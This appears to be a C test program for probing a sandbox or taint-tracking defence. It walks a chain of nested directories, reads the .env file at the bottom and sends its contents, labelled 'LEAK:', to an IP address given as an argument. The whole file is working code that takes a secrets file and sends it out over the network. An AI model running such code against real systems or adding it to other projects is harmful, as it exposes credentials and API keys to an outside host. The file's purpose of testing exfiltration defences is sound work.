// deepread IP N : sends PRE, walks d/d/.../d (N levels, openat without O_DIRECTORY:
// kernel-decided), opens .env at the bottom, reads it, sends it.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include "send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0);
  const char*ip=argv[1]; int n=atoi(argv[2]);
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int d=open(".",O_RDONLY);
  for(int i=0;i<n;i++){int e=openat(d,"d",O_RDONLY); if(e<0){printf("level %d: %s\n",i,strerror(errno));return 1;} close(d); d=e;}
  int fd=openat(d,".env",O_RDONLY); printf("open(depth %d/.env) = %d %s\n",n,fd,fd<0?strerror(errno):"-"); if(fd<0) return 1;
  char buf[256]; ssize_t k=read(fd,buf,sizeof buf-1); buf[k>0?k:0]=0; printf("READ %zd bytes: %.40s\n",k,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
